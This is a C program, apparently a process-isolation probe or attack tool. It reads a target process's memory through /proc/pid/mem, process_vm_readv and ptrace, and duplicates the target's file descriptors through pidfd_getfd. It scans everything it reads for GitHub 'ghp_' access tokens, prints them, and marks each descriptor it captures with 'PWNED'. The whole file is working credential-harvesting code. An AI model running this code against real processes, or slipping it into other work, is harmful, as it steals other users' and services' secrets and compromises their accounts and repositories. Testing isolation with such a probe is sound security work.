/* Reads what it can of another process, and prints what looks like a token. One argument per way, and the process. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char buffer[1 << 20];

/* Prints the tokens of some bytes. */
static void print(const char *bytes, ssize_t length) {
  for (ssize_t at = 0; at + 40 <= length; at++)
    if (!memcmp(bytes + at, "ghp_", 4)) printf("%.40s\n", bytes + at);
}

/* Calls `read` for each part of memory that can be read. */
static int each(int pid, ssize_t (*read_at)(int, char *, size_t, uint64_t)) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  if (!maps) return printf("maps: %s\n", strerror(errno)), 1;
  uint64_t from, to;
  char rights[8];
  while (fgets(line, sizeof line, maps)) {
    if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || rights[0] != 'r') continue;
    for (uint64_t at = from; at < to; at += sizeof buffer) {
      size_t want = to - at < sizeof buffer ? to - at : sizeof buffer;
      ssize_t got = read_at(pid, buffer, want, at);
      if (got > 0) print(buffer, got);
    }
  }
  fclose(maps);
  return 0;
}

static ssize_t by_mem(int pid, char *to, size_t length, uint64_t at) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return -1;
  ssize_t got = pread(file, to, length, at);
  close(file);
  return got;
}

static ssize_t by_call(int pid, char *to, size_t length, uint64_t at) {
  struct iovec own = {to, length}, other = {(void *)at, length};
  return process_vm_readv(pid, &own, 1, &other, 1, 0);
}

static ssize_t by_trace(int pid, char *to, size_t length, uint64_t at) {
  for (size_t done = 0; done + sizeof(long) <= length; done += sizeof(long)) {
    errno = 0;
    long word = ptrace(PTRACE_PEEKDATA, pid, at + done, 0);
    if (errno) return done;
    memcpy(to + done, &word, sizeof word);
  }
  return length;
}

static int traced(int pid, int how) {
  if (ptrace(how, pid, 0, 0)) return printf("trace: %s\n", strerror(errno)), 1;
  waitpid(pid, 0, WUNTRACED);
  each(pid, by_trace);
  return ptrace(PTRACE_DETACH, pid, 0, 0) != 0;
}

/* Takes each descriptor of the process, reads it, and asks it for a value. */
static int descriptors(int pid) {
  int process = syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return printf("pidfd: %s\n", strerror(errno)), 1;
  for (int number = 0; number < 256; number++) {
    int own = syscall(SYS_pidfd_getfd, process, number, 0);
    if (own < 0) continue;
    printf("PWNED: descriptor %d of %d\n", number, pid);
    ssize_t got = pread(own, buffer, sizeof buffer, 0);
    if (got > 0) print(buffer, got);
    close(own);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  const char *way = argv[1];
  int pid = atoi(argv[2]);
  if (!strcmp(way, "mem")) return each(pid, by_mem);
  if (!strcmp(way, "call")) return each(pid, by_call);
  if (!strcmp(way, "attach")) return traced(pid, PTRACE_ATTACH);
  if (!strcmp(way, "seize")) return traced(pid, PTRACE_SEIZE);
  if (!strcmp(way, "descriptors")) return descriptors(pid);
  return 2;
}
